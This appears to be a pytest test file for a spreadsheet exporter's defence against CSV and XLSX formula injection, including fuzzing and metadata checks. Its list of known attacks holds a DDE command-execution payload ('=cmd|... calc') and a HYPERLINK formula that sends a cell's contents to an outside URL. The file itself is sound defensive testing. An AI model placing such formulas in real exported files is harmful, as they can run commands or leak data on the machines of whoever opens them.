import csv
import io
import re
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from listening.core import sheets
from listening.core.sheets import Sheet, as_csv, as_xlsx, dangerous, harmless
from tests.faults.sizes import size

#: What spreadsheets took for formulas, from public lists of such attacks.
KNOWN = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    " =1+1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\u2028=1",
    "\u3000＝1",
    '=HYPERLINK("http://example.org?x="&A1)',
    "=cmd|' /C calc'!A0",
    "\tplain",
]
SIGNS = "=+-@\t\r\n\0＝＋－＠"
#: Texts that begin as attacks do, and any others.
nasty = st.builds(
    lambda gap, sign, rest: gap + sign + rest,
    st.text(alphabet=" \u00a0\u200b\ufeff\u3000\t\r\n\0\u2028", max_size=4),
    st.sampled_from(SIGNS),
    st.text(max_size=12),
)
anything = st.one_of(nasty, st.text(max_size=40))


def read_back(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def first_shown(text):
    return text.lstrip("\ufeff\u200b").strip()[:1]


@pytest.mark.parametrize("text", KNOWN)
def test_a_known_attack_gets_an_apostrophe(text):
    assert dangerous(text)
    assert harmless(text).startswith("'")


@pytest.mark.parametrize("text", ["Visits", "two - three", "a=b", "¿Cuándo?", "", "5 + 5"])
def test_plain_words_stay_as_they_are(text):
    assert harmless(text) == text


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell():
    assert [harmless(7), harmless(-7), harmless(None)] == [7, -7, ""]


@settings(max_examples=size(500, 5_000), deadline=None)
@given(text=anything)
def test_no_cell_of_a_csv_file_begins_as_a_formula(text):
    ((heading,), (cell,)) = read_back(as_csv(Sheet("Words", ["words"], [[text]])))
    assert heading == "words"
    assert first_shown(cell) not in set("=+-@＝＋－＠")
    assert cell[:1] not in set("\t\r\n\0")


# A workbook holds six cells in the middle.
@settings(max_examples=size(300, 1_000), deadline=None)
@given(cells=st.lists(anything, min_size=1, max_size=12))
def test_no_cell_of_a_workbook_is_a_formula(cells):
    book = load_workbook(io.BytesIO(as_xlsx([Sheet("Words", ["words"], [[cell] for cell in cells])])))
    kinds = {cell.data_type for (cell,) in book["Words"].iter_rows(min_row=2) if cell.value is not None}
    assert kinds <= {"s"}


def test_a_workbook_without_the_rule_would_hold_a_formula():
    """The check above must be able to fail."""
    from openpyxl import Workbook

    book, file = Workbook(), io.BytesIO()
    book.active.append(["=1+1"])
    book.save(file)
    assert load_workbook(file).active["A1"].data_type == "f"


def test_words_come_back_whole_from_both_files():
    said = 'They said "no";\nthen, nothing. Ñandú 🌻'
    sheet = Sheet("Words", ["words", "number"], [[said, 3]])
    assert read_back(as_csv(sheet))[1] == [said, "3"]
    row = [cell.value for cell in load_workbook(io.BytesIO(as_xlsx([sheet])))["Words"][2]]
    assert row == [said, 3]


def test_every_cell_is_in_quotes_and_the_file_says_it_is_utf_8():
    content = as_csv(Sheet("Words", ["words"], [["a"], [None]]))
    assert content.startswith(b"\xef\xbb\xbf")
    assert re.fullmatch(rb'("[^"]*"\r\n)+', content.removeprefix(b"\xef\xbb\xbf"))


def test_a_text_longer_than_a_cell_is_cut_not_refused():
    book = load_workbook(io.BytesIO(as_xlsx([Sheet("Words", ["words"], [["x" * 40_000]])])))
    assert len(book["Words"]["A2"].value) <= 32_767


def test_a_build_without_the_rule_is_caught(monkeypatch):
    """The check of CSV files must be able to fail too."""
    monkeypatch.setattr(sheets, "harmless", lambda cell: cell)
    rows = read_back(as_csv(Sheet("Words", ["words"], [["=1+1"], ["\u00a0@A1"]])))
    assert [first_shown(cell) for (cell,) in rows[1:]] == ["=", "@"]


def test_a_workbook_tells_nothing_of_when_it_was_made():
    made = as_xlsx([Sheet("Themes", ["Theme"], [["Rides"]])])
    with ZipFile(io.BytesIO(made)) as parts:
        assert set(re.findall(rb"\d{4}-\d\d-\d\dT[\d:]+Z", parts.read("docProps/core.xml"))) == {
            b"1980-01-01T00:00:00Z"
        }
